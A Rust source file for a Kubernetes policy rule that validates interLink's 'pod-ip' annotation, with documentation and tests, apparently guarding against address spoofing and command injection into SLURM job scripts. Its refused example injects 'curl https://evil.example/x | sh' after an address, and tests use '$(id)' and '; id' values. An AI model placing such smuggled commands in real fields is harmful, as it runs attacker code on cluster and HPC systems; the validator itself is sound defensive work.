//! # pod-ip
//!
//! ## What it refuses
//!
//! A value of `interlink.eu/pod-ip` that is:
//!
//! - not exactly an IP address. It must have no spaces around it, and no port, prefix length or zone. An IPv4 address
//!   must not be written as IPv6, and an IPv6 address must not end in IPv4 notation;
//! - an address outside all ranges in `podIP.cidrs`; without a range, every address;
//! - one of the first two addresses or the last address of an IPv4 range that contains it, unless
//!   `podIP.allowReserved` is set or the range has fewer than four addresses;
//! - an IPv4 address whose last octet is outside `podIP.octetRange`.
//!
//! With `cluster.podIPRanges`, the ranges of the cluster's virtual nodes are allowed too. If a pod names its nodes, and
//! all virtual nodes among them have ranges, the address must be in one of these. A pod names nodes by `nodeName`, by
//! the node selector `kubernetes.io/hostname`, or in each term of a required node affinity for that label or for
//! `metadata.name`. The first of these that is set counts.
//!
//! In an audit of stored objects, an address that interLink assigned may be outside these ranges. The policy assumes
//! that interLink assigned it if a field manager in `trustedFieldManagers` owns the annotation or, on a pod with the
//! VPN, if no owner is known.
//!
//! ## Why
//!
//! Without the VPN, interLink uses the value as the pod's address, unchecked. A pod can claim any address, even that of
//! another pod, and Services then send it that pod's traffic. interLink's SLURM plugin writes the value unquoted into
//! the job script, so text that is not an address runs as a command at the HPC center. With the VPN, interLink ignores
//! the requested address and replaces it with the first free one, although its documentation says otherwise. While any
//! pod has an address in this annotation, interLink assigns that address to no other pod. interLink itself never
//! assigns the first two addresses of a range, nor the last one.
//!
//! ## How to fix it
//!
//! Remove the annotation; with the VPN, interLink assigns the address, and no other can be requested. Without the VPN, set
//! it to a free address in your virtual node's range, and to nothing else. Only interLink may change it on a pod that
//! has a node: if an audit reports such a pod, delete the pod, and create it again without the annotation. The examples
//! below use the setting `podIP.cidrs: [10.250.0.0/16]`.
//!
//! ## Settings
//!
//! - `rules.pod-ip`: `Deny` (the default), `Warn` or `Ignore`.
//! - `podIP.cidrs`: the ranges of addresses that pods may request. There are none by default, so no address is
//!   allowed.
//! - `podIP.octetRange`: the smallest and the greatest last octet, `min` and `max`, of an IPv4 address. The default is
//!   2 and 250, the octets that interLink assigns.
//! - `podIP.allowReserved`: `true` allows the first two addresses and the last one of a range, and any last octet if
//!   `podIP.octetRange` is not set. The default is `false`.
//! - `cluster.podIPRanges`: `true` also allows the ranges of the virtual nodes. The default is `false`.
//! - `trustedFieldManagers`: the field managers that count as interLink in an audit. The default is
//!   `vk` and `virtual-kubelet`.
//!
//! ## References
//!
//! - interLink 0.6.2, `pkg/virtualkubelet/virtualkubelet.go`: `CreatePod` uses the address, `setupVPNPodIP` and
//!   `findFirstFreeIP` replace it with the VPN.
//! - interlink-slurm-plugin 0.6.1, `pkg/slurm/prepare.go`: `produceSLURMScript` copies the value into the job script.
//! - interLink's pod annotations reference: "`interlink.eu/pod-ip`".
//!
//! ## Refused
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-ip: "10.250.1.100; curl https://evil.example/x | sh"
//! ```
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-ip: "10.96.0.10"
//! ```
//!
//! ## Accepted
//!
//! ```yaml
//! metadata:
//!   annotations:
//!     interlink.eu/pod-ip: "10.250.1.100"
//! ```

use std::borrow::Cow;
use std::net::IpAddr;

use ipnet::IpNet;

use super::network::may_be_assigned;
use super::rule::{POD_ROLES, Rule};
use crate::annotations::{Annotation, POD_IP, POD_VPN};
use crate::escape::{quote, summarize};
use crate::finding::{Finding, Findings};
use crate::rule_id::RuleId;
use crate::settings::{PodIp, Settings};
use crate::target::Target;

pub(super) const RULE: Rule = Rule {
    id: RuleId::PodIp,
    refuses: "`pod-ip` that is not exactly an IP address, is outside the configured ranges, reserved in one, or ends in \
              an octet that interLink never assigns",
    about_writers: false,
    roles: POD_ROLES,
    check,
};

/// The problem with an address, and its fix.
struct Fault {
    problem: String,
    fix: String,
}

impl Fault {
    fn finding<'t>(self, annotation: &'t Annotation<'_>) -> Finding<'t> {
        annotation.finding(format!("{} {}", quote(&annotation.value), self.problem)).fix(self.fix)
    }
}

/// The ranges that an address must be in.
#[derive(Debug)]
pub(crate) struct AllowedRanges<'r> {
    pub(crate) ranges: Cow<'r, [IpNet]>,
    /// The problem with any address if there is no range.
    pub(crate) if_none: &'static str,
    /// The problem with an address outside of the ranges.
    pub(crate) if_outside: &'static str,
}

impl<'r> AllowedRanges<'r> {
    /// Returns the ranges in the settings.
    pub(crate) fn of_settings(pod_ip: &'r PodIp) -> Self {
        Self {
            ranges: Cow::Borrowed(&pod_ip.cidrs),
            if_none: "may not be requested, because the policy's settings allow no addresses",
            if_outside: "is outside the allowed ranges",
        }
    }
}

fn check<'t>(target: &'t Target<'_>, settings: &Settings<'_>, findings: &mut Findings<'t>) {
    let Some(annotation) = target.get(POD_IP) else {
        return;
    };
    let checked = parse(&annotation.value, settings).and_then(|address| {
        // With the ranges of virtual nodes, `requested_address` checks it.
        if settings.cluster.pod_ip_ranges || may_be_assigned(target, annotation) {
            return Ok(());
        }
        check_address(address, &settings.pod_ip, &AllowedRanges::of_settings(&settings.pod_ip))
    });
    if let Err(fault) = checked {
        let finding = fault.finding(annotation);
        // With the VPN, the address is only requested. Without it, interLink uses it unchecked.
        let has_vpn = target.get(POD_VPN).is_some();
        findings.push(if has_vpn { finding } else { finding.also_wrong_as("the pod's own", &annotation.value) });
    }
}

/// Returns the address that a target requests, and its annotation; `None` if it is malformed, or if interLink may have
/// assigned it.
pub(crate) fn requested<'t, 'a>(
    target: &'t Target<'a>,
    settings: &Settings<'_>,
) -> Option<(IpAddr, &'t Annotation<'a>)> {
    let annotation = target.get(POD_IP).filter(|annotation| !may_be_assigned(target, annotation))?;
    parse(&annotation.value, settings).ok().map(|address| (address, annotation))
}

/// Returns the problem with an address that must be in some ranges.
pub(crate) fn check_range<'t>(
    address: IpAddr,
    annotation: &'t Annotation<'_>,
    settings: &Settings<'_>,
    allowed: &AllowedRanges<'_>,
) -> Option<Finding<'t>> {
    check_address(address, &settings.pod_ip, allowed).err().map(|fault| fault.finding(annotation))
}

/// Parses an address as Go does, but accepts IPv4 addresses only in IPv4 notation.
fn parse(text: &str, settings: &Settings<'_>) -> Result<IpAddr, Fault> {
    let address: IpAddr =
        text.parse().map_err(|_| Fault { problem: "is not an IP address".to_owned(), fix: suggest(text, settings) })?;
    let IpAddr::V6(address) = address else {
        return Ok(address);
    };
    if let Some(address) = address.to_ipv4_mapped() {
        let problem = "is an IPv4 address written as IPv6".to_owned();
        return Err(Fault { problem, fix: format!("write it as {address}") });
    }
    if text.contains('.') {
        let hexadecimal = address.segments().map(|segment| format!("{segment:x}")).join(":");
        let problem = "mixes IPv4 and IPv6 notation".to_owned();
        return Err(Fault { problem, fix: format!("write it as {hexadecimal}") });
    }
    Ok(address.into())
}

/// Suggests a fix for a text that is not an address: the allowed address in it, without space around it and without a
/// prefix length, if there is one.
fn suggest(text: &str, settings: &Settings<'_>) -> String {
    let allowed = &settings.pod_ip;
    let may_be_allowed = |address| {
        settings.cluster.pod_ip_ranges || check_address(address, allowed, &AllowedRanges::of_settings(allowed)).is_ok()
    };
    let candidate = text.split('/').next().unwrap_or_default().trim();
    match candidate.parse::<IpAddr>() {
        Ok(address) if may_be_allowed(address) => format!("set it to {candidate} alone"),
        _ if allowed.cidrs.is_empty() => "remove it".to_owned(),
        _ => format!("set it to an address in {}", list(&allowed.cidrs)),
    }
}

/// Checks that an address is in one of some ranges, and that the settings allow it there.
fn check_address(address: IpAddr, settings: &PodIp, allowed: &AllowedRanges<'_>) -> Result<(), Fault> {
    if allowed.ranges.is_empty() {
        return Err(Fault {
            problem: allowed.if_none.to_owned(),
            fix: "remove it, or have your range added to podIP.cidrs".to_owned(),
        });
    }
    let mut ranges = allowed.ranges.iter().filter(|range| range.contains(&address)).peekable();
    if ranges.peek().is_none() {
        return Err(Fault {
            problem: allowed.if_outside.to_owned(),
            fix: format!("request an address in {}", list(&allowed.ranges)),
        });
    }
    if !settings.allow_reserved
        && let Some(range) = ranges.find(|range| is_reserved(address, range))
    {
        return Err(Fault {
            problem: format!("is reserved in {range}"),
            fix: "request another address, not the first two or the last of that range".to_owned(),
        });
    }
    if let (IpAddr::V4(address), Some(octets)) = (address, settings.octet_range) {
        let last = address.octets()[3];
        if !(octets.min..=octets.max).contains(&last) {
            return Err(Fault {
                problem: format!("ends in {last}, which interLink does not assign"),
                fix: format!("request an address that ends in {} to {}", octets.min, octets.max),
            });
        }
    }
    Ok(())
}

/// Returns whether an address is one of the first two or the last one of an IPv4 range of four or more.
fn is_reserved(address: IpAddr, range: &IpNet) -> bool {
    match (address, range) {
        (IpAddr::V4(address), IpNet::V4(range)) if range.prefix_len() <= 30 => {
            let first = range.network().to_bits();
            let last = range.broadcast().to_bits();
            [first, first + 1, last].contains(&address.to_bits())
        }
        _ => false,
    }
}

/// Lists ranges for a message.
fn list(ranges: &[IpNet]) -> String {
    summarize(ranges.iter(), IpNet::to_string).to_string()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::annotations::Owner;
    use crate::testing::*;

    fn problem(text: &str, podip: &str) -> String {
        let json = format!(r#"{{"podIP": {podip}}}"#);
        let settings = settings(&json);
        let pod = pod(&[(POD_IP, text)]);
        let texts = texts(&RULE.findings(&pod, &settings));
        assert!(texts.len() <= 1);
        texts.into_iter().next().unwrap_or_default()
    }

    const RANGE: &str = r#"{"cidrs": ["10.250.0.0/16"]}"#;

    #[test]
    fn parses_addresses_as_go_does() {
        let oracle = include_str!("../../tests/oracle/go-ips.jsonl");
        let mut count = 0;
        for line in oracle.lines() {
            let (text, expected): (String, Option<String>) = serde_json::from_str(line).unwrap();
            let read = text.parse::<IpAddr>().ok().map(|address| address.to_canonical());
            assert_eq!(read.map(|address| address.to_string()), expected, "{text:?}");
            count += 1;
        }
        assert_eq!(count, 5_032);
    }

    #[test]
    fn accepts_an_address_in_a_range() {
        assert_eq!(problem("10.250.1.100", RANGE), "");
        assert_eq!(problem("2001:db8::5", r#"{"cidrs": ["10.0.0.0/8", "2001:db8::/64"]}"#), "");
    }

    #[test]
    fn rejects_anything_but_an_address() {
        for text in [
            "",
            " 10.250.1.5",
            "10.250.1.5 ",
            "10.250.1.5\n",
            "10.250.1.5:80",
            "10.250.1.5/32",
            "[2001:db8::1]",
            "fe80::1%eth0",
            "010.250.1.5",
            "10.250.1",
            "0x0a.244.1.5",
            "10.250.1.5; id",
            "$(id)",
            "١٠.٢٤٤.١.٥",
        ] {
            assert!(
                problem(text, r#"{"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]}"#)
                    .contains("is not an IP address"),
                "{text:?}"
            );
        }
    }

    #[test]
    fn rejects_ipv4_written_as_ipv6() {
        let all = r#"{"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]}"#;
        for text in ["::ffff:10.250.1.5", "::ffff:0afa:105", "::FFFF:10.250.1.5", "0:0:0:0:0:ffff:afa:105"] {
            assert!(
                problem(text, all).ends_with("is an IPv4 address written as IPv6; write it as 10.250.1.5"),
                "{text}"
            );
        }
        assert!(
            problem("64:ff9b::10.250.1.5", all)
                .ends_with("mixes IPv4 and IPv6 notation; write it as 64:ff9b:0:0:0:0:afa:105")
        );
        assert!(problem("::10.250.1.5", all).ends_with("write it as 0:0:0:0:0:0:afa:105"));
    }

    #[test]
    fn rejects_an_address_outside_the_ranges() {
        assert_eq!(
            problem("10.251.1.5", RANGE),
            "\"10.251.1.5\" is outside the allowed ranges; request an address in 10.250.0.0/16"
        );
        let many = r#"{"cidrs": ["10.0.0.0/24", "10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24", "fd00::/64"]}"#;
        assert!(problem("10.1.0.5", many).ends_with("10.0.0.0/24, 10.0.1.0/24, 10.0.2.0/24 and 2 more"));
    }

    #[test]
    fn rejects_every_address_without_a_range() {
        assert!(problem("10.250.1.5", "{}").contains("allow no addresses"));
    }

    #[test]
    fn rejects_reserved_addresses() {
        for text in ["10.250.0.0", "10.250.0.1", "10.250.255.255"] {
            assert!(problem(text, RANGE).contains("is reserved in 10.250.0.0/16"), "{text}");
            assert_eq!(problem(text, r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true}"#), "");
        }
        let any_octet = r#"{"cidrs": ["10.250.0.0/16"], "octetRange": {"min": 0, "max": 255}}"#;
        for text in ["10.250.0.2", "10.250.255.254", "10.250.3.0", "10.250.3.255"] {
            assert_eq!(problem(text, any_octet), "", "{text}");
        }
    }

    #[test]
    fn reserves_nothing_in_small_or_ipv6_ranges() {
        for (text, range) in [("10.0.0.8", "10.0.0.8/31"), ("10.0.0.9", "10.0.0.9/32"), ("fd00::", "fd00::/64")] {
            assert_eq!(problem(text, &format!(r#"{{"cidrs": ["{range}"]}}"#)), "");
        }
        for text in ["10.0.0.0", "10.0.0.1", "10.0.0.3"] {
            assert!(problem(text, r#"{"cidrs": ["10.0.0.0/30"]}"#).contains("reserved"));
        }
        assert_eq!(problem("10.0.0.2", r#"{"cidrs": ["10.0.0.0/30"]}"#), "");
        assert!(problem("255.255.255.255", r#"{"cidrs": ["128.0.0.0/1"]}"#).contains("reserved"));
    }

    #[test]
    fn rejects_an_address_reserved_in_one_of_its_ranges() {
        let nested = r#"{"cidrs": ["10.250.0.0/16", "10.250.1.0/24"]}"#;
        assert!(problem("10.250.1.255", nested).contains("reserved in 10.250.1.0/24"));
    }

    #[test]
    fn checks_the_last_octet_by_default() {
        let reserved = r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true}"#;
        let both = r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true, "octetRange": {}}"#;
        for text in ["10.250.1.0", "10.250.1.1", "10.250.1.251", "10.250.1.255"] {
            assert!(problem(text, RANGE).ends_with("request an address that ends in 2 to 250"), "{text}");
            assert_eq!(problem(text, reserved), "");
            assert!(problem(text, both).ends_with("request an address that ends in 2 to 250"), "{text}");
        }
        for text in ["10.250.1.2", "10.250.1.250"] {
            assert_eq!(problem(text, RANGE), "");
        }
    }

    #[test]
    fn checks_the_last_octet() {
        let bounded = r#"{"cidrs": ["10.250.0.0/16", "fd00::/64"], "octetRange": {"min": 10, "max": 20}}"#;
        for text in ["10.250.1.10", "10.250.1.20", "fd00::ff"] {
            assert_eq!(problem(text, bounded), "");
        }
        for text in ["10.250.1.9", "10.250.1.21"] {
            assert!(problem(text, bounded).ends_with("request an address that ends in 10 to 20"), "{text}");
        }
    }

    proptest! {
        #[test]
        fn accepts_only_characters_of_addresses(text in "[0-9a-f:.%/ ;$()\\[\\]-]{0,20}") {
            let settings = settings(r#"{"podIP": {"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"], "allowReserved": true}}"#);
            let pod = pod(&[(POD_IP, &text)]);
            if RULE.findings(&pod, &settings).is_empty() {
                prop_assert!(text.chars().all(|c| c.is_ascii_hexdigit() || c == '.' || c == ':'));
            }
        }
    }

    #[test]
    fn accepts_an_address_that_interlink_assigned() {
        let problems = |annotations: &[(&'static str, &'static str)], owner: &Owner<'static>| {
            let stored = builder("Pod", annotations).owned_by(owner).build();
            RULE.findings(&stored, &Settings::default()).len()
        };
        let (alone, with_vpn) = ([(POD_IP, "10.0.0.5")], [(POD_IP, "10.0.0.5"), (POD_VPN, "true")]);
        let kubectl = Owner::Manager("kubectl".into());
        for (owner, expected) in [(Owner::InterLink, [0, 0]), (Owner::Unknown, [1, 0]), (kubectl, [1, 1])] {
            assert_eq!([problems(&alone, &owner), problems(&with_vpn, &owner)], expected, "{owner:?}");
        }
        for owner in [Owner::InterLink, Owner::Unknown] {
            assert_eq!(problems(&[(POD_IP, "$(id)"), (POD_VPN, "true")], &owner), 1, "{owner:?}");
        }
        let template = builder("Deployment", &with_vpn).owned_by(&Owner::Unknown).build();
        assert_eq!(RULE.findings(&template, &Settings::default()).len(), 1);
    }
}
